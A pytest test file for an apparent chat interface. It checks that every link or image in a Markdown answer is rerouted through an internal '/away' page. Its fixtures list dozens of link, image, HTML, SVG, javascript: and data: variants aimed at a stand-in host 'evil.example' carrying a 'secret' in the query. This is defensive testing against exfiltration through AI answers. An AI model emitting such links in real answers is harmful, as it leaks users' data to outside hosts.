"""Where the links of an answer lead, by each way Markdown knows to write one; another reader of Markdown judges."""

import re
from html import unescape
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from flowloom.serve.away import away
from flowloom.ui.chat.markdown import markdown_of

EVIL = "https://evil.example/p?q=secret"
CHANNELS = {
    "link": f"[a]({EVIL})",
    "link with a title": f'[a]({EVIL} "b")',
    "link in angles": f"[a](<{EVIL}>)",
    "link with brackets in it": f"[a]({EVIL}_(b)_(c))",
    "link by escapes": r"[a](https\://evil.example/p?q=secret)",
    "link by entities": "[a](https&colon;//evil.example/p?q=secret)",
    "link without a scheme": "[a](//evil.example/p?q=secret)",
    "link with backslashes": r"[a](/\\evil.example/p?q=secret)",
    "link in another case": "[a](HTTPS://evil.example/p?q=secret)",
    "link with words like an address": f"[https://good.example]({EVIL})",
    "link with bold words": f"**[a _b_]({EVIL})**",
    "reference": f"[a][b]\n\n[b]: {EVIL}",
    "reference by its words": f"[a]\n\n[a]: {EVIL} 'title'",
    "reference in angles": f"[a][]\n\n[a]: <{EVIL}>",
    "autolink": f"<{EVIL}>",
    "mail": "<mailto:x@evil.example?body=secret>",
    "bare": f"See {EVIL}.",
    "bare, in brackets": f"(see {EVIL})",
    "bare, www": "www.evil.example/p?q=secret",
    "bare in another case": "HtTpS://evil.example/p?q=secret",
    "picture": f"![a]({EVIL})",
    "picture by reference": f"![a][b]\n\n[b]: {EVIL}",
    "picture in a link": f"[![a]({EVIL})]({EVIL})",
    "in a table": f"| a | b |\n|---|---|\n| [x]({EVIL}) | {EVIL} |",
    "in a list": f"- [x]({EVIL})\n  1. {EVIL}",
    "in a quote": f"> [x]({EVIL})\n> <{EVIL}>",
    "in a heading": f"# [x]({EVIL})",
    "mail with words": "[a](mailto:x@evil.example?body=secret)",
    "script": "[a](javascript:secret)",
    "data": "[a](data:text/html,secret)",
}
SHOWN = {
    "html": f'<a href="{EVIL}">a</a> <img src="{EVIL}"> <iframe src="{EVIL}"></iframe>',
    "svg": f'<svg><image href="{EVIL}"/></svg>',
    "data picture": "![a](data:image/png;base64,secret)",
    "svg as data": f"![a](data:image/svg+xml,<svg><image href='{EVIL}'/></svg>)",
    "code": f"`[a]({EVIL})`",
    "block of code": f"```\n![a]({EVIL})\n```",
}


def led(text: str) -> str:
    return markdown_of(text, lead=lambda target: away(target, "en"))


def addresses(text: str) -> list[str]:
    """All that a page with this text would lead to or fetch; HTML is shown as it is written, as Streamlit does."""
    page = MarkdownIt("commonmark", {"html": False}).enable("table").render(text)
    return [unescape(found) for found in re.findall(r'(?:href|src)="([^"]*)"', page)]


def outside_links(text: str) -> str:
    """The words of a text that are in no link and no code, where a bare address would be made one."""
    page = MarkdownIt("commonmark", {"html": False}).render(text)
    return re.sub(r"<(a|code|pre)\b.*?</\1>", "", page, flags=re.DOTALL)


@pytest.mark.parametrize("channel", CHANNELS)
def test_every_link_leads_to_the_page_before(channel: str) -> None:
    text = led(CHANNELS[channel])
    found = addresses(text)
    assert found
    for address in found:
        parts = urlsplit(address)
        assert (parts.scheme, parts.netloc, parts.path) == ("", "", "/away")
        assert "secret" in parse_qs(parts.query)["to"][0]
    assert not re.search(r"https?://|www\.", outside_links(text), re.IGNORECASE)


@pytest.mark.parametrize("channel", SHOWN)
def test_what_is_no_link_is_not_made_one(channel: str) -> None:
    assert addresses(led(SHOWN[channel])) == []


@pytest.mark.parametrize("channel", CHANNELS)
def test_piece_by_piece_no_link_leads_elsewhere(channel: str) -> None:
    """As an answer streams in, its text is cut anywhere."""
    text = CHANNELS[channel]
    for end in range(len(text)):
        assert all(each.startswith(("/", "#")) and not each.startswith("//") for each in addresses(led(text[:end])))


def test_links_within_the_app_stay() -> None:
    assert addresses(led("[a](/settings) [b](#top)")) == ["/settings", "#top"]


def test_the_words_stay_what_they_were() -> None:
    page = MarkdownIt("commonmark", {"html": False}).render(led(f"See {EVIL}, or (www.e.org/a_b)."))
    said = unescape(re.sub(r"<[^>]*>", "", page)).strip()
    assert said == f"See {EVIL}, or (www.e.org/a_b)."


PIECES = [*"[]()!<>`\\\n :|'\"", "\n\n", "&colon;", "> ", "- "]
WORDS = ["a", "[a]: ", "https://evil.example/x", "//evil.example", "www.evil.example", "mailto:x@evil.example"]


@settings(max_examples=400)
@given(st.lists(st.sampled_from([*PIECES, *WORDS]), max_size=14).map("".join))
def test_no_mixture_leads_elsewhere(text: str) -> None:
    for address in addresses(led(text)):
        assert not re.match(r"\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})", address, re.IGNORECASE), (text, led(text))
